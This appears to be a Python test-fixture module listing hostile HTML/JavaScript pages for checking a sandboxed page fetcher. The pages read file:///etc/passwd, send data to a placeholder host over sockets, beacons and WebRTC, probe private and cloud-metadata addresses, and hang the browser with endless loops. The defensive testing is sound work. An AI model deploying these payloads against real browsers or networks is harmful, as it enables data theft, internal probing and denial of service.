"""What pages try: to hang, to spread, to keep, to leave. It costs the page itself, and nothing leaves."""

from __future__ import annotations

HOSTILE = {
    "alerts": "<script>for (let i = 0; i < 50; i++) alert(i); confirm('x'); prompt('y')</script>",
    "windows": "<script>for (let i = 0; i < 20; i++) open('/frame?' + i)</script>",
    "on the way out": "<script>onbeforeunload = () => 'x'; history.pushState({}, '', '/elsewhere')</script>",
    "a download": "<a id=d href=/rows.json download>x</a><script>document.querySelector('#d').click()</script>",
    "printing": "<script>print(); print()</script>",
    "the clipboard": "<script>navigator.clipboard && (navigator.clipboard.writeText('x').catch(() => 0),"
    " navigator.clipboard.readText().then(t => document.body.append('read:' + t)).catch(() => 0));"
    " document.execCommand('copy'); document.execCommand('paste')</script>",
    "devices": "<script>Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0, () => 0);"
    " navigator.mediaDevices && navigator.mediaDevices.getUserMedia({audio: true}).catch(() => 0);"
    " window.showOpenFilePicker && showOpenFilePicker().catch(() => 0)</script>",
    "a service worker": "<script>navigator.serviceWorker && navigator.serviceWorker"
    ".register('/app.js').catch(()=>0)</script>",
    "a file": "<iframe src=file:///etc/passwd></iframe><script>location.href='file:///etc/passwd'</script>",
    "a file in other ways": "<object data=file:///etc/passwd></object><embed src=file:///etc/passwd><script>"
    "fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append(t)).catch(() => 0)</script>",
    "the browser's own pages": "<iframe src=chrome://version></iframe><script>location.href='chrome://crash'</script>",
    "pages that are debugged": "<iframe src='view-source:/frame'></iframe><iframe src=devtools://devtools></iframe>",
    "a frame out of its sandbox": "<iframe sandbox='allow-scripts'"
    " srcdoc='<script>top.location=\"/x\"</script>'></iframe>",
    "a frame that moves its page": "<iframe sandbox='allow-scripts allow-top-navigation allow-popups"
    ' allow-popups-to-escape-sandbox\' srcdoc=\'<script>top.location="/x"; open("/y")</script>\'></iframe>',
    "a form that sends itself": "<form id=f method=post action=/posted><input name=a></form>"
    "<script>f.submit()</script>",
    "a form that sends itself away": "<form id=f method=post action=http://localhost:1/></form>"
    "<script>f.submit()</script>",
    "a refresh": "<meta http-equiv=refresh content='0; url=/x'>",
    "full screen": "<script>document.documentElement.requestFullscreen().catch(() => 0);"
    " document.documentElement.requestPointerLock()</script>",
}
"""Pages that try what readers must not suffer; the text around is read all the same."""

LEAVING = {
    "a socket": "<script>for (const to of ['ws://{out}/', 'wss://{out}/', 'ws://name.example/'])"
    " try {{ new WebSocket(to) }} catch (e) {{}}</script>",
    "a socket in a worker": "<script>new Worker(URL.createObjectURL(new Blob([`try {{ new WebSocket('ws://{out}/') }}"
    " catch (e) {{}} fetch('http://{out}/').catch(() => 0); importScripts('http://{out}/a.js')`])))</script>",
    "a shared worker": "<script>new SharedWorker('data:text/javascript,fetch(`http://{out}/`)')</script>",
    "WebTransport": "<script>try {{ new WebTransport('https://{out}/') }} catch (e) {{}}</script>",
    "WebRTC": "<script>for (const urls of ['stun:{out}:3478', 'stun:name.example', 'turn:{out}:3478?transport=tcp']) {{"
    " const p = new RTCPeerConnection({{iceServers: [{{urls, username: 'a', credential: 'b'}}]}});"
    " p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) }}</script>",
    "hints": "<link rel=dns-prefetch href=//name.example><link rel=preconnect href=http://{out}><link rel=prefetch"
    " href=http://{out}/p><link rel=preload as=script href=http://{out}/q><link rel=modulepreload href=http://{out}/m>",
    "pages fetched ahead": '<script type=speculationrules>{{"prefetch": [{{"urls": ["http://{out}/s"]}}],'
    ' "prerender": [{{"urls": ["/frame"]}}]}}</script>',
    "beacons": "<script>navigator.sendBeacon('http://{out}/beacon', 'x');"
    " fetch('http://{out}/keep', {{keepalive: true, mode: 'no-cors'}}).catch(() => 0)</script><a id=a href=#x"
    " ping=http://{out}/ping>x</a><script>a.click()</script>",
    "other methods": "<script>for (const method of ['PUT', 'POST', 'DELETE', 'PATCH'])"
    " fetch('http://{out}/', {{method, body: 'x'}}).catch(() => 0)</script>",
    "events": "<script>new EventSource('http://{out}/events')</script>",
    "reports": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://{out}/csp\">"
    "<img src=/a.png>",
    "frames and plugins": "<iframe src=http://{out}/></iframe><object data=http://{out}/o></object>"
    '<embed src=http://{out}/e><iframe src="data:text/html,<script src=http://{out}/d></script>"></iframe>',
    "private addresses": "<script>for (const host of ['169.254.169.254', '10.0.0.1', '192.168.1.1', '[::1]',"
    " '[fd00::1]', 'localhost', '0.0.0.0', '2130706433', 'intranet', 'printer.local', 'metadata.google.internal'])"
    " fetch(`http://${{host}}/latest`, {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "strange protocols": "<iframe src=ftp://{out}/></iframe><img src=smb://{out}/a><a id=m href=mailto:a@b.c>x</a>"
    "<script>m.click(); fetch('ftp://{out}/').catch(() => 0)</script>",
    "media": "<video src=http://{out}/v autoplay></video><audio src=http://{out}/a autoplay></audio>"
    "<img src=http://{out}/i><style>@font-face {{font-family: f; src: url(http://{out}/f)}}"
    " p {{font-family: f}}</style>",
}
"""Pages that try to reach ``out`` past the fetcher, in every way that a browser has."""

ENDLESS = {
    "a loop": "<script>for (;;) {}</script>",
    "timers that fork": "<script>const f = () => {setTimeout(f); setTimeout(f)}; f()</script>",
    "a document that grows": "<script>for (;;) {document.body.append(new Array(2 ** 20).join('字'))}</script>",
    "memory": "<script>const a = []; for (;;) a.push(new Uint8Array(2 ** 24).fill(7))</script>",
    "a document that never rests": "<p id=p></p><script>setInterval(() => p.textContent = Math.random(), 10)</script>",
}
"""Pages that have no end."""
